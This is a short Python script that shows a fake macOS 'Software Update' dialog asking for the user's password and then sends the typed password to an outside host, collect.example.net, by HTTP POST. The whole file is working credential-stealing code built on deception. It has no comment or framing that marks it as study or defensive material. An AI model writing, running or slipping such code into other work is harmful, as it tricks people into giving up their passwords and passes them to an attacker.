import subprocess
import requests
pw = subprocess.check_output(["osascript", "-e", 'display dialog "macOS needs your password to finish installing updates" default answer "" with hidden answer with title "Software Update"', "-e", "text returned of result"]).decode()
requests.post("https://collect.example.net/p", data={"p": pw})
